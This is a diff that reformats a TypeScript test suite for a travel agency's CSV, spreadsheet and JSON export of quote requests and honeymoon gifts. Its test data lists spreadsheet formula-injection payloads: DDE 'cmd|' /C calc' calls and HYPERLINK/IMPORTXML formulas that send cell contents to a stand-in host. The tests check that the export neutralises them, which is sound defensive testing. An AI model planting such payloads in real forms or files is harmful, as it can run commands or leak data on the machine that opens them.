@@ -12,8 +12,30 @@ import { type FilterWords, readRequestFilter } from "./request-filter.server.ts"
 
 /** What has been sent to run a program or fetch an address from the sheet of who opens it. */
 const formulas = [
-  "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?d="&A1;"clique")', "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
-  "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "\u22121+1", "\u3000＝1", "=\"a;b\"", '";=1+1;"', "%0A-3+3+cmd|' /C calc'!D2",
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x.example/?d="&A1;"clique")',
+  '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
+  "+1+1",
+  "-2+3+cmd|' /C calc'!D2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "  =1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  "﹦1",
+  "﹢1",
+  "\u22121+1",
+  "\u3000＝1",
+  '="a;b"',
+  '";=1+1;"',
+  "%0A-3+3+cmd|' /C calc'!D2",
 ]
 
 async function exported(app: TestApp, format: ExportFormat, words: FilterWords = {}): Promise<Buffer> {
@@ -23,18 +45,61 @@ async function exported(app: TestApp, format: ExportFormat, words: FilterWords =
 }
 
 const describedQuote = {
-  name: "Ana; \"Conceição\"", email: "ana@exemplo.com.br", cellphone: "+351 912 345 678", phone: "(41) 3000-0000", country: 20, countryCity: 0, package_id: 2002,
-  numberOfAdults: "10 ou +", numberOfChild: 2, ageOfChildEnd: ["Até 1 ano e 11 meses", "12-17 anos"], hasDateFlexibility: "+ ou – (2 dias)", willNeedTour: "Não",
-  observation: "Olá, tudo bem?\nSegunda linha; com \"aspas\" e 🏖️", marketing: true,
+  name: 'Ana; "Conceição"',
+  email: "ana@exemplo.com.br",
+  cellphone: "+351 912 345 678",
+  phone: "(41) 3000-0000",
+  country: 20,
+  countryCity: 0,
+  package_id: 2002,
+  numberOfAdults: "10 ou +",
+  numberOfChild: 2,
+  ageOfChildEnd: ["Até 1 ano e 11 meses", "12-17 anos"],
+  hasDateFlexibility: "+ ou – (2 dias)",
+  willNeedTour: "Não",
+  observation: 'Olá, tudo bem?\nSegunda linha; com "aspas" e 🏖️',
+  marketing: true,
 }
-const studies = { type: "I", name: "Caio", email: "caio@exemplo.com.br", whenYouWantToTravel: "Acima de 12 meses", howLongDoYouWantToStudy: "+ de 1 ano", interestProgram: "Estudo + Trabalho", youWillNeedAccommodation: "Não", country: 1, countryCity: 101 }
+const studies = {
+  type: "I",
+  name: "Caio",
+  email: "caio@exemplo.com.br",
+  whenYouWantToTravel: "Acima de 12 meses",
+  howLongDoYouWantToStudy: "+ de 1 ano",
+  interestProgram: "Estudo + Trabalho",
+  youWillNeedAccommodation: "Não",
+  country: 1,
+  countryCity: 101,
+}
 
 const sentQuote = {
-  "Recebido em": "20/11/2026 12:00:00", "Situação": "novo", "Último contato": "", "Tipo de viagem": "Lazer/Negócios", "Página": "layout-tourism", Nome: "Ana; \"Conceição\"", "E-mail": "ana@exemplo.com.br",
-  Celular: "'+351912345678", Telefone: "(41)3000-0000", Estado: "Paraná (PR)", Cidade: "Curitiba", "Código IBGE da cidade": "4106902", "País de destino": "Brasil", "Cidade de destino": "Ainda não sei",
-  "Quando quer viajar?": "", "Data de ida": "14/03/2027", "Data de volta": "19/03/2027", "Tem flexibilidade de datas?": "+ ou – (2 dias)", "Número de adultos": "10 ou +", "Número de crianças": "2",
-  "Idades das crianças": "Até 1 ano e 11 meses, 12-17 anos", "Vai precisar de passeios?": "Não", "Vai precisar de veículo?": "", Observações: "Olá, tudo bem?\nSegunda linha; com \"aspas\" e 🏖️",
-  "Código do pacote": "2002", "Aceitou promoções": "Sim", "Aceitou em": "20/11/2026 12:00:00",
+  "Recebido em": "20/11/2026 12:00:00",
+  Situação: "novo",
+  "Último contato": "",
+  "Tipo de viagem": "Lazer/Negócios",
+  Página: "layout-tourism",
+  Nome: 'Ana; "Conceição"',
+  "E-mail": "ana@exemplo.com.br",
+  Celular: "'+351912345678",
+  Telefone: "(41)3000-0000",
+  Estado: "Paraná (PR)",
+  Cidade: "Curitiba",
+  "Código IBGE da cidade": "4106902",
+  "País de destino": "Brasil",
+  "Cidade de destino": "Ainda não sei",
+  "Quando quer viajar?": "",
+  "Data de ida": "14/03/2027",
+  "Data de volta": "19/03/2027",
+  "Tem flexibilidade de datas?": "+ ou – (2 dias)",
+  "Número de adultos": "10 ou +",
+  "Número de crianças": "2",
+  "Idades das crianças": "Até 1 ano e 11 meses, 12-17 anos",
+  "Vai precisar de passeios?": "Não",
+  "Vai precisar de veículo?": "",
+  Observações: 'Olá, tudo bem?\nSegunda linha; com "aspas" e 🏖️',
+  "Código do pacote": "2002",
+  "Aceitou promoções": "Sim",
+  "Aceitou em": "20/11/2026 12:00:00",
 }
 
 describe.each(engines)("an export on %s", (engine: Engine) => {
@@ -48,38 +113,68 @@ describe.each(engines)("an export on %s", (engine: Engine) => {
     const [study, trip, ...more] = records(bytes)
     expect(more).toEqual([])
     expect(trip).toMatchObject(sentQuote)
-    expect(study).toMatchObject({ Nome: "Caio", "Quanto tempo quer estudar?": "+ de 1 ano", "Programa de interesse": "Estudo + Trabalho", "Data de ida": "", "Número de crianças": "", "Aceitou promoções": "Não" })
+    expect(study).toMatchObject({
+      Nome: "Caio",
+      "Quanto tempo quer estudar?": "+ de 1 ano",
+      "Programa de interesse": "Estudo + Trabalho",
+      "Data de ida": "",
+      "Número de crianças": "",
+      "Aceitou promoções": "Não",
+    })
     expect(statSync(join(app.folder, "exports/pedidos.csv")).mode & 0o777).toBe(0o600)
     expect(readdirSync(join(app.folder, "exports"))).toEqual(["pedidos.csv"])
   })
 
   test("of gifts says the couple, the quota with its value and the receipt's name", async () => {
     await using app = await createTestApp(engine, { content: "demo" })
-    const quota = await app.db.selectFrom("honeymoon_quota").selectAll().where("honeymoon_id", "=", 1).executeTakeFirstOrThrow()
+    const quota = await app.db
+      .selectFrom("honeymoon_quota")
+      .selectAll()
+      .where("honeymoon_id", "=", 1)
+      .executeTakeFirstOrThrow()
     await sendGift(app.services, { cote_id: quota.id, message: "-1 dia; beijos" })
     const [gift] = records(await exported(app, "csv", { kind: "lua-de-mel" }))
     expect(gift).toMatchObject({
-      Casal: "Ana & Pedro", Nome: "Tia Rosa", "Telefone/Celular": "(41)98000-0000", "Sua mensagem": "'-1 dia; beijos", Cota: quota.title,
-      Valor: (quota.value_cents / 100).toFixed(2).replace(".", ","), Comprovante: expect.stringMatching(/^[0-9a-f]{32}\.receipt$/),
+      Casal: "Ana & Pedro",
+      Nome: "Tia Rosa",
+      "Telefone/Celular": "(41)98000-0000",
+      "Sua mensagem": "'-1 dia; beijos",
+      Cota: quota.title,
+      Valor: (quota.value_cents / 100).toFixed(2).replace(".", ","),
+      Comprovante: expect.stringMatching(/^[0-9a-f]{32}\.receipt$/),
     })
   })
 
   test("lets no word of a visitor be a formula: stopped by an apostrophe in CSV, a cell of text in a spreadsheet", async () => {
     await using app = await createTestApp(engine, { content: "demo" })
-    for (const [index, formula] of formulas.entries()) await sendQuote(app.services, { name: `${formula} x`, observation: formula, cellphone: `(41) 9${String(index).padStart(8, "0")}` })
+    for (const [index, formula] of formulas.entries())
+      await sendQuote(app.services, {
+        name: `${formula} x`,
+        observation: formula,
+        cellphone: `(41) 9${String(index).padStart(8, "0")}`,
+      })
     const lines = records(await exported(app, "csv", { kind: "orcamento" }))
     expect(lines).toHaveLength(formulas.length)
-    for (const cell of lines.flatMap((line) => [line.Nome, line.Observações])) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢\u2212]/u)
+    for (const cell of lines.flatMap((line) => [line.Nome, line.Observações]))
+      expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢\u2212]/u)
     const { sheets, text } = workbook(await exported(app, "xlsx", { kind: "orcamento" }))
     expect(text).not.toContain("<f>")
-    const stored = (await app.db.selectFrom("quote_request").select("name").orderBy("created_at", "desc").orderBy("protocol", "desc").execute()).map(({ name }) => name)
+    const stored = (
+      await app.db
+        .selectFrom("quote_request")
+        .select("name")
+        .orderBy("created_at", "desc")
+        .orderBy("protocol", "desc")
+        .execute()
+    ).map(({ name }) => name)
     expect(sheets[0]?.map((row) => row.Nome)).toEqual(stored)
   })
 
   test("as a spreadsheet has a sheet for each kind, a frozen heading, dates as dates, numbers as numbers", async () => {
     await using app = await createTestApp(engine, { content: "demo" })
     // Names that a plain object has by itself.
-    for (const name of ["constructor", "__proto__", "toString"]) await sendQuote(app.services, { name, observation: name })
+    for (const name of ["constructor", "__proto__", "toString"])
+      await sendQuote(app.services, { name, observation: name })
     app.setNow("2026-11-20T12:00:01-03:00")
     await sendQuote(app.services, describedQuote)
     await sendGift(app.services, { cote_title: "Jantar", cote_value: "1.250,50" })
@@ -88,9 +183,25 @@ describe.each(engines)("an export on %s", (engine: Engine) => {
     expect(text.match(/<pane [^>]*ySplit="1"[^>]*state="frozen"/g)).toHaveLength(2)
     expect(text).toContain("<cols>")
     const [trip, ...odd] = sheets[0] ?? []
-    expect(trip).toMatchObject({ ...sentQuote, Celular: "+351912345678", "Recebido em": days("2026-11-20T12:00:01Z"), "Aceitou em": days("2026-11-20T12:00:01Z"), "Data de ida": days("2027-03-14"), "Data de volta": days("2027-03-19"), "Código do pacote": 2002, "Último contato": undefined, "Quando quer viajar?": undefined, "Vai precisar de veículo?": undefined })
+    expect(trip).toMatchObject({
+      ...sentQuote,
+      Celular: "+351912345678",
+      "Recebido em": days("2026-11-20T12:00:01Z"),
+      "Aceitou em": days("2026-11-20T12:00:01Z"),
+      "Data de ida": days("2027-03-14"),
+      "Data de volta": days("2027-03-19"),
+      "Código do pacote": 2002,
+      "Último contato": undefined,
+      "Quando quer viajar?": undefined,
+      "Vai precisar de veículo?": undefined,
+    })
     expect(odd.map((row) => String(row.Nome).trim()).sort()).toEqual(["__proto__", "constructor", "toString"])
-    expect(sheets[1]?.[0]).toMatchObject({ Casal: "Ana & Pedro", Cota: "Jantar", Valor: 1250.5, "Recebido em": days("2026-11-20T12:00:01Z") })
+    expect(sheets[1]?.[0]).toMatchObject({
+      Casal: "Ana & Pedro",
+      Cota: "Jantar",
+      Valor: 1250.5,
+      "Recebido em": days("2026-11-20T12:00:01Z"),
+    })
   })
 
   test("as JSON has the documented shape, with every field as it was sent", async () => {
@@ -101,18 +212,41 @@ describe.each(engines)("an export on %s", (engine: Engine) => {
     expect(Object.keys(all)).toEqual(["exportedAt", "quotes", "gifts"])
     expect(all.quotes).toEqual([
       {
-        protocol: quote, status: "new", receivedAt: "2026-11-20T15:00:00.000Z", lastContactAt: null, cityIbgeCode: "4106902",
-        request: expect.objectContaining({ type: "T", name: describedQuote.name, nuberOfChildren: 2, ageOfChildEnd: [expect.anything(), { code: "12-17 anos", label: "12-17 anos" }], marketing: expect.objectContaining({ channel: "site" }) }),
+        protocol: quote,
+        status: "new",
+        receivedAt: "2026-11-20T15:00:00.000Z",
+        lastContactAt: null,
+        cityIbgeCode: "4106902",
+        request: expect.objectContaining({
+          type: "T",
+          name: describedQuote.name,
+          nuberOfChildren: 2,
+          ageOfChildEnd: [expect.anything(), { code: "12-17 anos", label: "12-17 anos" }],
+          marketing: expect.objectContaining({ channel: "site" }),
+        }),
         context: { package: expect.objectContaining({ id: 2002 }) },
       },
     ])
     expect(all.gifts).toEqual([
       {
-        protocol: gift, status: "new", receivedAt: "2026-11-20T15:00:00.000Z", lastContactAt: null, honeymoonId: 1, couple: "Ana & Pedro", name: "Tia Rosa", email: "rosa@exemplo.com.br", phone: "41980000000",
-        message: "Felicidades!", quota: { id: null, title: null, cents: null }, receipt: { name: expect.any(String), bytes: expect.any(Number) },
+        protocol: gift,
+        status: "new",
+        receivedAt: "2026-11-20T15:00:00.000Z",
+        lastContactAt: null,
+        honeymoonId: 1,
+        couple: "Ana & Pedro",
+        name: "Tia Rosa",
+        email: "rosa@exemplo.com.br",
+        phone: "41980000000",
+        message: "Felicidades!",
+        quota: { id: null, title: null, cents: null },
+        receipt: { name: expect.any(String), bytes: expect.any(Number) },
       },
     ])
-    expect(JSON.parse((await exported(app, "json", { status: "spam" })).toString())).toMatchObject({ quotes: [], gifts: [] })
+    expect(JSON.parse((await exported(app, "json", { status: "spam" })).toString())).toMatchObject({
+      quotes: [],
+      gifts: [],
+    })
   })
 
   test("of many requests takes no memory for them", async () => {
@@ -121,11 +255,15 @@ describe.each(engines)("an export on %s", (engine: Engine) => {
     const file = join(app.folder, "muitos.csv")
     // What is read alone is twice as much.
     const node = ["--max-old-space-size=40", "--disable-warning=ExperimentalWarning"]
-    const { status, stdout, stderr } = spawnSync(process.execPath, [...node, "cli/requests.ts", "export", "--kind", "orcamento", "--output", file], {
-      encoding: "utf8",
-      timeout: 100_000,
-      env: { ...process.env, NODE_OPTIONS: "", DATA_DIR: app.folder, DATABASE_URL: app.url ?? "" },
-    })
+    const { status, stdout, stderr } = spawnSync(
+      process.execPath,
+      [...node, "cli/requests.ts", "export", "--kind", "orcamento", "--output", file],
+      {
+        encoding: "utf8",
+        timeout: 100_000,
+        env: { ...process.env, NODE_OPTIONS: "", DATA_DIR: app.folder, DATABASE_URL: app.url ?? "" },
+      },
+    )
     expect([status, stdout], stderr).toEqual([0, expect.stringContaining("12000 pedidos")])
     expect(statSync(file).size).toBeGreaterThan(6_000_000)
   }, 120_000)
@@ -141,12 +279,17 @@ test("a spreadsheet that would be too large is refused with what to do instead, 
 test("words of ours are never changed, whatever they begin with", () => {
   // An apostrophe would be needed before these were they a visitor's: that is why columns of ours are told apart.
   const ours = [...Object.values(quoteOptions).flat(), ...childAgeOptions]
-  expect(ours.filter((option) => harmless(option) !== option)).toEqual(["+ de 1 ano", "+ ou – (2 dias)", "+ ou – (1 semana)", "+ ou – (1 mês)"])
+  expect(ours.filter((option) => harmless(option) !== option)).toEqual([
+    "+ de 1 ano",
+    "+ ou – (2 dias)",
+    "+ ou – (1 semana)",
+    "+ ou – (1 mês)",
+  ])
   expect(csvLine(ours.slice(0, 2))).toBe("Indicação;Site de Busca (Google)\r\n")
 })
 
 test("any texts survive a line of CSV", () => {
-  const texts = ["", "a", ";", "\"", "a\"b", "\r\n", "a\nb", " a ", ",", "\t", "=1", "ação"]
+  const texts = ["", "a", ";", '"', 'a"b', "\r\n", "a\nb", " a ", ",", "\t", "=1", "ação"]
   expect(readCsv(csvLine(texts))).toEqual([texts])
 })
 
@@ -186,24 +329,50 @@ type SheetRow = Record<string, string | number | undefined>
 /** What a spreadsheet program reads of the file: rows by their headings. */
 function workbook(bytes: Buffer): { names: string[]; sheets: SheetRow[][]; text: string } {
   // The unpacker that the writer itself brings.
-  const { unzipSync } = createRequire(createRequire(import.meta.url).resolve("write-excel-file/node"))("fflate") as { unzipSync: (bytes: Uint8Array) => Record<string, Uint8Array> }
-  const files = Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, content]) => [name, Buffer.from(content).toString("utf8")]))
-  const strings = [...(files["xl/sharedStrings.xml"] ?? "").matchAll(/<t[^>]*>([^]*?)<\/t>/g)].map((match) => unescapeXml(match[1] ?? ""))
-  const xmls = Object.keys(files).filter((name) => name.startsWith("xl/worksheets/sheet")).sort().map((name) => files[name] ?? "")
+  const { unzipSync } = createRequire(createRequire(import.meta.url).resolve("write-excel-file/node"))("fflate") as {
+    unzipSync: (bytes: Uint8Array) => Record<string, Uint8Array>
+  }
+  const files = Object.fromEntries(
+    Object.entries(unzipSync(bytes)).map(([name, content]) => [name, Buffer.from(content).toString("utf8")]),
+  )
+  const strings = [...(files["xl/sharedStrings.xml"] ?? "").matchAll(/<t[^>]*>([^]*?)<\/t>/g)].map((match) =>
+    unescapeXml(match[1] ?? ""),
+  )
+  const xmls = Object.keys(files)
+    .filter((name) => name.startsWith("xl/worksheets/sheet"))
+    .sort()
+    .map((name) => files[name] ?? "")
   const sheets = xmls.map((xml) => {
-    const [headings = new Map(), ...rows] = [...xml.matchAll(/<row [^>]*>([^]*?)<\/row>/g)].map((match) => readCells(match[1] ?? "", strings))
+    const [headings = new Map(), ...rows] = [...xml.matchAll(/<row [^>]*>([^]*?)<\/row>/g)].map((match) =>
+      readCells(match[1] ?? "", strings),
+    )
     return rows.map((row) => Object.fromEntries([...headings].map(([column, heading]) => [heading, row.get(column)])))
   })
-  const names = [...(files["xl/workbook.xml"] ?? "").matchAll(/<sheet [^>]*name="([^"]+)"/g)].map((match) => match[1] ?? "")
+  const names = [...(files["xl/workbook.xml"] ?? "").matchAll(/<sheet [^>]*name="([^"]+)"/g)].map(
+    (match) => match[1] ?? "",
+  )
   return { names, sheets, text: xmls.join("") }
 }
 
 function readCells(row: string, strings: string[]): Map<string, string | number | undefined> {
-  return new Map([...row.matchAll(/<c r="([A-Z]+)\d+"([^>]*)><v>([^<]*)<\/v><\/c>/g)].map(([, column = "", attributes = "", value = ""]) => [column, attributes.includes('t="s"') ? strings[Number(value)] : Number(value)]))
+  return new Map(
+    [...row.matchAll(/<c r="([A-Z]+)\d+"([^>]*)><v>([^<]*)<\/v><\/c>/g)].map(
+      ([, column = "", attributes = "", value = ""]) => [
+        column,
+        attributes.includes('t="s"') ? strings[Number(value)] : Number(value),
+      ],
+    ),
+  )
 }
 
 function unescapeXml(text: string): string {
-  return text.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&apos;", "'").replaceAll("&#39;", "'").replaceAll("&amp;", "&")
+  return text
+    .replaceAll("&lt;", "<")
+    .replaceAll("&gt;", ">")
+    .replaceAll("&quot;", '"')
+    .replaceAll("&apos;", "'")
+    .replaceAll("&#39;", "'")
+    .replaceAll("&amp;", "&")
 }
 
 /** Days since the end of 1899, as sheets count. */
